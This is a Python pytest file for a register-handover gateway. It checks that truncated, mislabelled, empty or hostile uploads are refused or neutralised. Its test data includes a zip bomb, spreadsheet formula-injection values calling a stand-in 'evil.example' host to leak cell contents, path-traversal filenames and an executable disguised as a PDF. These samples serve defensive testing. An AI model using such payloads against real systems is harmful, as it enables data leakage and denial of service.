"""Registers and documents that are cut, misnamed, empty or made to harm, from the door to the package; and a disk that
is full.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import zipfile
from collections.abc import AsyncIterator, Callable, Mapping
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
import xlsxwriter
from pyarrow import parquet
from python_calamine import CalamineWorkbook

from harness import House
from qaqpa.errors import InvalidRequest, StoreUnavailable
from qaqpa.gateway import Gateway
from qaqpa.handover.records import Handover
from qaqpa.model.handover import HandoverState
from qaqpa.model.identifiers import HandoverId
from qaqpa.tables import HEADINGS
from qaqpa.testing.sftp_recipient import SftpRecipient
from registers import FACTS, FIELDS, agency, as_csv, manifest_in, opened, order, pieces, register_in, rows
from turning import bare, examined, results, still, taken_in, turn, turned

COLLECTOR = "recipients/demo-collector.toml"
DECIDING, SENT, CANCELLED = HandoverState.DECIDING, HandoverState.SENT, HandoverState.CANCELLED
LINES = [line for line in rows(60) if str(line).encode("cp1251", "replace").decode("cp1251") == str(line)][:4]
"""Whose names every encoding can write."""
PATHS = [*FIELDS, *FACTS]
PDF = b"%PDF-1.7\n%%EOF\n"


@pytest.fixture
def home(tmp_path: Path) -> House:
    """An installation without third parties."""
    return bare(tmp_path)


@pytest.fixture
async def collector(home: House, tmp_path: Path) -> AsyncIterator[SftpRecipient]:
    async with agency(home, tmp_path / "agency") as recipient:
        yield recipient


def as_jsonl(lines: list[dict[str, Any]]) -> bytes:
    return b"".join(json.dumps(line, ensure_ascii=False, default=str).encode() + b"\n" for line in lines)


def as_xlsx(lines: list[dict[str, Any]], cells: Mapping[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = book.add_worksheet()
    for at, line in enumerate([{path: HEADINGS[path].ru for path in PATHS}, *lines]):
        sheet.write_row(at, 0, ["" if line.get(path) is None else line[path] for path in PATHS])
    for place, cell in (cells or {}).items():
        sheet.write_formula(place, cell)
    book.close()
    return out.getvalue()


def as_parquet(lines: list[dict[str, Any]]) -> bytes:
    out = io.BytesIO()
    table = pa.Table.from_pylist([{path: line.get(path) for path in PATHS} for line in lines])
    parquet.write_table(table, out)
    return out.getvalue()


def bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(as_xlsx(LINES))) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name) + (b" " * 2**28 if name.endswith("sheet1.xml") else b""))
    return out.getvalue()


def without(path: str) -> bytes:
    lines = as_csv(LINES).decode().splitlines()
    at = PATHS.index(path)
    return "\r\n".join(";".join(c for i, c in enumerate(line.split(";")) if i != at) for line in lines).encode()


async def ended(gateway: Gateway, data: bytes, **asked: Any) -> Handover:
    name = (await gateway.handovers.order(order(**asked), pieces(data))).id
    return await turned(gateway, name, SENT, CANCELLED)


GOOD: dict[str, Callable[[], bytes]] = {
    "UTF-8": lambda: as_csv(LINES),
    "UTF-8 with its mark": lambda: as_csv(LINES, encoding="utf-8-sig"),
    "Windows-1251": lambda: as_csv(LINES, encoding="windows-1251"),
    "JSONL": lambda: as_jsonl(LINES),
    "XLSX": lambda: as_xlsx(LINES),
    "Parquet": lambda: as_parquet(LINES),
}
REFUSED: dict[str, tuple[bytes, dict[str, str]]] = {
    "cut in the heading": (as_csv(LINES)[:40], {}),
    "an XLSX that is cut": (as_xlsx(LINES)[:-400], {}),
    "a Parquet that is cut": (as_parquet(LINES)[:-100], {}),
    "an XLSX said to be CSV": (as_xlsx(LINES), {"format": "csv"}),
    "a CSV said to be XLSX": (as_csv(LINES), {"format": "xlsx"}),
    "a PDF": (PDF * 100, {}),
    "zeros": (bytes(5_000), {}),
    "a column missing": (without("identity.iin"), {}),
    "a bomb": (bomb(), {}),
}


async def test_every_kind_of_register_goes_the_same_way(home: House, collector: SftpRecipient) -> None:
    went = {}
    async with still(home) as gateway:
        for kind, made in GOOD.items():
            found = await ended(gateway, made())
            assert found.state is SENT, (kind, found.figures)
            went[kind] = [
                {name: value for name, value in line.items() if name != "disclosure"}
                for line in register_in(opened(collector, f"{found.id}.zip.age"))
            ]
        examined(home, gateway, collector)
    assert all(each == went["UTF-8"] for each in went.values())
    assert [line["ИИН"] for line in went["UTF-8"]] == [line["identity.iin"] for line in LINES]


async def test_a_register_that_cannot_be_read_ends_its_handover(home: House, collector: SftpRecipient) -> None:
    async with still(home) as gateway:
        with pytest.raises(InvalidRequest, match="empty"):
            await gateway.handovers.order(order(), pieces(b""))
        for kind, (data, asked) in REFUSED.items():
            found = await ended(gateway, data, **asked)
            assert found.state is CANCELLED and found.figures["code"] == "register_refused", kind
            [problem] = found.figures["problems"]
            assert problem and not any(line["identity.iin"] in problem for line in LINES), kind
        for kind, data in {
            "no rows": as_csv([]),
            "malformed rows alone": as_csv([line | {"identity.iin": "900101300124"} for line in LINES]),
        }.items():
            found = await ended(gateway, data)
            assert found.state is CANCELLED and found.figures["code"] == "nothing_permitted", kind
        assert house_is_empty(home)
        assert house_entries(home, gateway) == {"policy"}
        examined(home, gateway, collector)
    assert not collector.calls


async def test_a_row_that_is_cut_or_runs_stays_behind_or_goes_as_text(home: House, collector: SftpRecipient) -> None:
    address = FIELDS.index("contact.registered_address")
    place = f"{chr(ord('A') + address)}2"
    lines = [dict(line) for line in LINES]
    lines[0]["contact.registered_address"] = '=HYPERLINK("http://evil.example?"&A2,"ул. Абая")'
    lines[1]["contact.registered_address"] = "+7 727 250-00-00 @SUM(1)"
    async with still(home) as gateway:
        cut = await ended(gateway, as_csv(LINES)[:-60])
        assert results(gateway, cut.id) == {"PERMIT": 3, "MALFORMED": 1}
        formula = await ended(gateway, as_xlsx(LINES, {place: '=HYPERLINK("http://evil.example")'}))
        assert b"evil" not in opened(collector, f"{formula.id}.zip.age").read("register.csv"), "its value is read alone"
        text = await ended(gateway, as_csv(lines))
        assert results(gateway, text.id) == {"PERMIT": 2, "MALFORMED": 2}
        went = opened(collector, f"{text.id}.zip.age").read("register.csv")
        assert b"HYPERLINK" not in went and b"SUM" not in went
        examined(home, gateway, collector)


@pytest.mark.parametrize("layout", ["xlsx", "jsonl"])
async def test_the_register_in_another_layout(home: House, collector: SftpRecipient, layout: str) -> None:
    home.edit(COLLECTOR, ('format = "csv"', f'format = "{layout}"'))
    async with still(home) as gateway:
        found = await ended(gateway, as_csv(LINES))
        assert found.state is SENT, found.figures
        package = opened(collector, f"{found.id}.zip.age")
        content = package.read(f"register.{layout}")
        if layout == "jsonl":
            went = [json.loads(line) for line in content.splitlines()]
            assert [line["identity.iin"] for line in went] == [line["identity.iin"] for line in LINES]
        else:
            sheet = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
            assert [line[1] for line in sheet[1:]] == [line["identity.iin"] for line in LINES]
            with zipfile.ZipFile(io.BytesIO(content)) as parts:
                assert not any(b"<f>" in parts.read(name) for name in parts.namelist())
        assert manifest_in(package)["register"]["rows"] == 4


async def test_what_the_layout_cannot_hold_ends_the_handover(home: House, collector: SftpRecipient) -> None:
    """It is no reason to try for ever: windows-1251 has no letter of Kazakh's tomorrow either."""
    home.edit(COLLECTOR, ('encoding = "utf-8-sig"', 'encoding = "windows-1251"'))
    async with still(home) as gateway:
        found = await ended(gateway, as_csv([line | {"identity.last_name": "Сәрсенбаев"} for line in LINES]))
        assert found.state is CANCELLED and found.figures["code"] == "not_possible"
        assert "windows-1251" in found.figures["problems"][0] and "Сәрсенбаев" not in str(found.figures)
        assert examined(home, gateway, collector)[found.id]["result"] == "not_sent"


async def test_documents_go_under_names_of_ours(home: House, collector: SftpRecipient, tmp_path: Path) -> None:
    good = tmp_path / "..%2f..%2fetc" / "Договор Сәрсенбаева 900101300123.pdf.exe"
    good.parent.mkdir()
    good.write_bytes(PDF)
    wrong = {
        "a program": b"MZ\x90\x00" + bytes(100), "a page": b"<html>%PDF-", "a shorter one": b"%PD", "nothing": b"",
    }  # fmt: skip
    async with still(home) as gateway:

        async def handed(documents: dict[str, Path]) -> HandoverId:
            return (await gateway.handovers.order(order(), pieces(as_csv(LINES)), documents)).id

        for kind, content in wrong.items():
            (tmp_path / "wrong.pdf").write_bytes(content)
            with pytest.raises(InvalidRequest):
                await handed({"assignment_of_files": tmp_path / "wrong.pdf"})
            assert house_is_empty(home), kind
        for kind in ("identity_card", "../../register", "assignment_of_files/../x"):
            with pytest.raises(InvalidRequest, match="gets no"):
                await handed({kind: good})
        with pytest.raises(InvalidRequest, match="cannot be read"):
            await handed({"assignment_of_files": tmp_path / "missing.pdf"})
        assert house_is_empty(home)
        name = await handed({"assignment_of_files": good})
        good.write_bytes(PDF + b"changed since")
        await turned(gateway, name, SENT)
        package = opened(collector, f"{name}.zip.age")
        assert package.namelist() == [
            "register.csv", "disclosures.csv", "documents/1-assignment_of_files.pdf", "manifest.json", "manifest.sig",
        ]  # fmt: skip
        assert package.read("documents/1-assignment_of_files.pdf") == PDF
        told = manifest_in(package)["others"][1]
        assert told["bytes"] == len(PDF) and told["type"] == "pdf" and package.testzip() is None
        examined(home, gateway, collector)


@pytest.mark.skipif(os.geteuid() != 0, reason="this machine mounts nothing: only root may")
async def test_a_full_disk_loses_nothing(home: House, collector: SftpRecipient) -> None:
    folder = home.home / "handovers"
    folder.mkdir()
    if run("mount", "-t", "tmpfs", "-o", "size=96k", "tmpfs", folder):
        pytest.skip("this machine mounts nothing")
    many = rows(300)
    try:
        async with still(home) as gateway:
            with pytest.raises(StoreUnavailable, match="nothing was taken in"):
                await taken_in(gateway, lines=many)
            assert list(folder.iterdir()) == []
            assert run("mount", "-o", f"remount,size={len(as_csv(many)) // 1024 + 12}k", folder) == 0
            name = await taken_in(gateway, lines=many)
            for _ in range(3):
                assert (await turn(gateway, name)).state is DECIDING, "there is room for the register alone"
            assert gateway.handovers.flow.failures[name] == 2 and not list(folder.glob("*/.*")), "nothing is left"
            assert run("mount", "-o", "remount,size=2m", folder) == 0
            await turned(gateway, name, SENT)
            assert results(gateway, name) == {"PERMIT": 300}
            examined(home, gateway, collector)
    finally:
        run("umount", "--lazy", folder)


def run(*command: str | Path) -> int:
    return subprocess.run(command, check=False, capture_output=True).returncode


def house_is_empty(house: House) -> bool:
    folder = house.home / "handovers"
    return not folder.exists() or list(folder.iterdir()) == []


def house_entries(house: House, gateway: Gateway) -> set[str]:
    return {entry["kind"] for entry in house.entries(gateway)} - {"refusal", "review"}
